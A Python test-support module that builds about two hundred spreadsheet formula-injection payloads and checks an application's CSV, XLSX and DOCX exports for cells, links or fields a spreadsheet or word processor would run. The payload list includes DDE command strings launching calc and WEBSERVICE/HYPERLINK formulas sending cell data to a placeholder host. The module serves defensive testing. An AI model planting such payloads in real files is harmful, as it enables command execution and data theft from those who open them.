"""Every table somebody can take along, two hundred ways to make one run something, and a look at whether it would."""

import csv
import io
import re
import unicodedata
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any
from xml.etree import ElementTree

from openpyxl import load_workbook

from shangliang.exchange.models import OtherSystem
from tests.trust.doors_table import DOORS

BEFORE = ("", " ", "\u3000", "\t", "\r", "\n", "\x00", "\ufeff", "\u200b", "'", '"')
OPENERS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
WHOLE = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.invalid/?"&A1,"看")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=IMPORTXML("http://x.invalid","//a")',
    '=WEBSERVICE("http://x.invalid/"&A1)',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    'DDE("cmd";"/C calc";"x")',
    "http://x.invalid/看",
    "=1+1\n=2+2",
    "%0A=1+1",
)
PAYLOADS: tuple[str, ...] = (
    *(f"{before}{opener}1+1" for before in BEFORE for opener in OPENERS),
    *(f"{before}{whole}" for before in BEFORE for whole in WHOLE),
)
RUNS = re.compile(r"^[=+\-@＝＋－＠|%\t\r]")
NUMBER = re.compile(r"^[+-]?\d+(\.\d+)?$")
LONGEST_CELL = 10_000_000
FORMULA = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}f"


@dataclass(frozen=True)
class Export:
    """One table: the row of the address in the table of doors, the query, and which other system's sheet it is."""

    door: str
    query: str = ""
    sheet_kind: str = ""
    tag: str = ""

    def address(self, objects: dict[str, str]) -> str:
        """Return the address with a district's objects in it."""
        door = next(one for one in DOORS if one.name == self.door and one.tag == self.tag)
        address = door.address(objects)
        return address + ("&" if "?" in address else "?") + self.query if self.query else address


EXPORTS = (
    Export("reports:desk", "state=all&format=xlsx"),
    Export("reports:desk", "state=all&format=csv"),
    Export("reports:matters", "format=xlsx"),
    Export("reports:unowned", "format=xlsx"),
    Export("sorting:models_taken", "format=xlsx"),
    Export("sorting:scheme", "format=xlsx"),
    Export("sorting:owners", "format=xlsx"),
    Export("sorting:issue", "format=xlsx"),
    Export("sorting:nobody", "format=xlsx"),
    Export("hotspots:xlsx"),
    Export("reports:coverage", "format=xlsx"),
    Export("exchange:transfers", "state=all&format=xlsx"),
    Export("exchange:import_rejected"),
    Export("exchange:sheet_file", sheet_kind="xlsx"),
    Export("exchange:sheet_file", sheet_kind="csv"),
    Export("exchange:sheet_file", sheet_kind="docx"),
    Export("topics:xlsx"),
    Export("consultations:xlsx"),
    Export("delivery:lists_xlsx"),
    Export("statistics:figure", "format=xlsx"),
)


def taken_along(client: Any, objects: dict[str, str], export: Export) -> Any:
    """Download one table; the other system takes its sheet in the kind that is asked for."""
    if export.sheet_kind:
        OtherSystem.unscoped.update(sheet_kind=export.sheet_kind)
    answer = client.get(export.address(objects))
    assert answer.status_code == 200 and "attachment" in answer["Content-Disposition"], export
    return answer


def would_run(answer: Any) -> tuple[list[str], int]:
    """Return what in a download a spreadsheet or a word processor would run or follow, and how many texts stand in it."""
    kind = answer["Content-Type"]
    if kind.startswith("text/csv"):
        return _in_csv(answer.content)
    return _in_workbook(answer.content) if "spreadsheet" in kind else _in_document(answer.content)


def _in_csv(data: bytes) -> tuple[list[str], int]:
    before = csv.field_size_limit(LONGEST_CELL)  # of the whole process: a command sets its own
    try:
        cells = [
            cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for cell in row
        ]
    finally:
        csv.field_size_limit(before)
    return [f"csv runs {cell[:40]!r}" for cell in cells if runs(cell)], len(cells)


def runs(cell: str) -> bool:
    """Tell whether a cell of text would be taken for a formula: what cannot be seen before the sign does not hide it."""
    seen = "".join(sign for sign in cell if unicodedata.category(sign) not in ("Cf", "Cc") or sign in "\t\r")
    bare = seen.lstrip(" \n\u3000\xa0")
    return bool(RUNS.match(bare)) and not NUMBER.match(bare)


def _in_workbook(data: bytes) -> tuple[list[str], int]:
    found = [fault for name, part in _parts(data) for fault in _in_part(name, part)]
    texts = 0
    for page in load_workbook(io.BytesIO(data)):
        for cell in (cell for row in page.iter_rows() for cell in row):
            texts += isinstance(cell.value, str)
            if cell.data_type == "f" or cell.hyperlink:
                found.append(f"{cell.coordinate} is a formula or a link: {cell.value!r}")
    return found, texts


def _in_part(name: str, part: bytes) -> Iterator[str]:
    if "externalLink" in name or name.endswith((".bin", ".vml")):
        yield f"{name} is in the workbook"
    if name.endswith((".xml", ".rels")):
        tree = ElementTree.fromstring(part)
        yield from (f"{name}: formula {one.text!r}" for one in tree.iter(FORMULA))
        yield from (f"{name}: hyperlink" for one in tree.iter() if one.tag.endswith("}hyperlink"))
        yield from (f"{name}: leads outside" for one in tree.iter() if one.get("TargetMode") == "External")


def _in_document(data: bytes) -> tuple[list[str], int]:
    found, texts = [], 0
    for name, part in _parts(data):
        if not name.endswith((".xml", ".rels")):
            continue
        tree = ElementTree.fromstring(part)
        fields = [one for one in tree.iter() if one.tag.endswith(("}fldSimple", "}instrText", "}hyperlink"))]
        outside = [one for one in tree.iter() if one.get("TargetMode") == "External"]
        found += [f"{name}: {one.tag}" for one in (*fields, *outside)]
        texts += sum(one.tag.endswith("}t") for one in tree.iter())
    return found, texts


def _parts(data: bytes) -> Iterator[tuple[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(data)) as parts:
        for name in parts.namelist():
            yield name, parts.read(name)
